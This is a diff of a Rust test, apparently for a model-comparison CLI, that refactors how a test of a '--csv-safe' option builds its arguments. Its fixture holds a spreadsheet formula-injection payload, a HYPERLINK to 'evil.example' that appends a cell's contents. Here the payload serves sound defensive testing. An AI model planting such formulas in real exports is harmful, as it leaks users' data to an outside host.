@@ -808,30 +808,26 @@ fn csv_safe_defuses_formulas_and_resume_reads_the_file_back() {
         "m": {"text": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
         "n": {"text": "-2+3"}
     }}));
-    let plain = w.run(&[
-        "compare",
-        "-m",
-        "openai/m,openai/n",
-        "-p",
-        "hi",
-        "--format",
-        "csv",
-    ]);
+    let compare = |extra: &[&str]| {
+        let mut args = vec![
+            "compare",
+            "-m",
+            "openai/m,openai/n",
+            "-p",
+            "hi",
+            "--format",
+            "csv",
+        ];
+        args.extend_from_slice(extra);
+        w.run(&args)
+    };
+    let plain = compare(&[]);
     let (_, rows) = read_csv(&plain.stdout);
     assert!(
         rows.iter().any(|r| r[3].starts_with("=HYPERLINK")),
         "off by default"
     );
-    let safe = w.run(&[
-        "compare",
-        "-m",
-        "openai/m,openai/n",
-        "-p",
-        "hi",
-        "--format",
-        "csv",
-        "--csv-safe",
-    ]);
+    let safe = compare(&["--csv-safe"]);
     assert_eq!(safe.code, 0, "{safe:?}");
     let (header, rows) = read_csv(&safe.stdout);
     let output = header.iter().position(|h| h == "output").unwrap();
